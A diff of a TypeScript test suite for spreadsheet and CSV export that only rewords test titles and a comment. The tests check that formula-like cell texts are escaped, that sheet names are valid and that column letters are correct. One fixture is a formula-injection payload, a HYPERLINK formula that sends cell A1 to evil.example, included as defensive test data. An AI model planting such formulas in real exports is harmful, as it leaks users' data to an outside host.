@@ -10,7 +10,7 @@ import { formulasOf, sheetsOf } from '../support/xlsx-sheets';
 
 const NBSP = '\u00a0';
 
-/** What a spreadsheet would reckon with, and what stands in the file for it. */
+/** What a spreadsheet would evaluate, and how the file contains it. */
 const FORMULAS: [string, string][] = [
   ['=1+1', "'=1+1"],
   ['=HYPERLINK("http://evil.example?x="&A1,"click")', `'=HYPERLINK("http://evil.example?x="&A1,"click")`],
@@ -56,15 +56,15 @@ const HARMLESS = [
   '"quoted", and more',
 ];
 
-test.each(FORMULAS)('%j is a text in CSV', (given, written) => {
+test.each(FORMULAS)('writes %j as text in CSV', (given, written) => {
   expect(withoutFormula(given)).toBe(written);
 });
 
-test.each(HARMLESS)('%j stands as it is', (given) => {
+test.each(HARMLESS)('writes %j unchanged', (given) => {
   expect(withoutFormula(given)).toBe(given);
 });
 
-test('in the file too; and a figure below 0 stays a figure', async () => {
+test('writes escaped texts to the file, and a negative figure as a figure', async () => {
   const section = sectionOf(
     null,
     'T',
@@ -108,7 +108,7 @@ const jobOf = (cells: unknown[][]): [WorkbookJob, (post: (part: WorkbookPart) =>
   ];
 };
 
-test('a workbook has no formula but its sums, whatever its texts say', async () => {
+test('a workbook has no formulas except its sums, whatever its texts contain', async () => {
   const texts = [
     ...FORMULAS.map(([given]) => given),
     'constructor',
@@ -128,7 +128,7 @@ test('a workbook has no formula but its sums, whatever its texts say', async () 
   expect(new Set(sheet!.rows.slice(4, -1).map(([, amount]) => amount))).toEqual(new Set([-123_456_789.5]));
 });
 
-test('names of sheets are legal, and no two alike', () => {
+test('sheet names are valid and unique', () => {
   expect(
     sheetNames([
       'Sales: all [of] them?',
@@ -156,6 +156,6 @@ test('names of sheets are legal, and no two alike', () => {
   ]);
 });
 
-test('columns go on after Z', () => {
+test('columns continue after Z', () => {
   expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
 });
